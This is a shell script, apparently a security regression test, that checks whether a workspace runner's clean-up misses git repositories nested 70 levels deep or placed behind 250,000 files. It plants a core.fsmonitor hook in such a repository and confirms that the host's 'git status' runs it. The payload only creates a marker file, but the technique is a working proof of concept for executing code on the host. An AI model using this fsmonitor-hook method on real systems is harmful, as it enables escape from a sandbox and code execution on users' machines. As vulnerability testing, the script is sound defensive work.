#!/bin/sh
# A repository past the clean-up's depth bound (64 levels) or behind
# 250,000 entries the command made was never cleaned: registered as a
# submodule of the top repository, the host's "git status" at the top
# runs the core.fsmonitor the command planted there.
# Usage: review/git_walk_bounds.sh [BUILD_DIR]   (the entries case: add "many")
B=${1:-build}/cmd
T=$(mktemp -d); W=$T/ws; mkdir $W
git -C $W init -q && git -C $W -c user.name=a -c user.email=a@b commit -q --allow-empty -m x
$B/wsrun --workspace $W -c "d=\$(printf 'd/%.0s' \$(seq 70))s; mkdir -p \$d
git -C \$d init -q; git -C \$d -c user.name=a -c user.email=a@b commit -q --allow-empty -m y
git -C \$d config core.fsmonitor 'touch $T/PWNED-deep; false'; git add \$d" >/dev/null 2>&1
(cd $W && git status >/dev/null 2>&1)
[ -e $T/PWNED-deep ] && echo "VULNERABLE: deep repository" || echo "held: deep repository"
if [ "$2" = many ]; then
	mkdir $W/j1 $W/j2; f=$(ls -f $W | grep '^j' | head -1); s=$(ls -f $W | grep '^j' | tail -1)
	$B/wsrun --workspace $W -c "cd $f && seq 250001 | xargs touch && cd ../$s &&
	git init -q && git config core.fsmonitor 'touch $T/PWNED-many; false'" >/dev/null 2>&1
	(cd $W/$s && git status >/dev/null 2>&1)
	[ -e $T/PWNED-many ] && echo "VULNERABLE: behind 250,000 entries" || echo "held: behind 250,000 entries"
fi
rm -rf $T
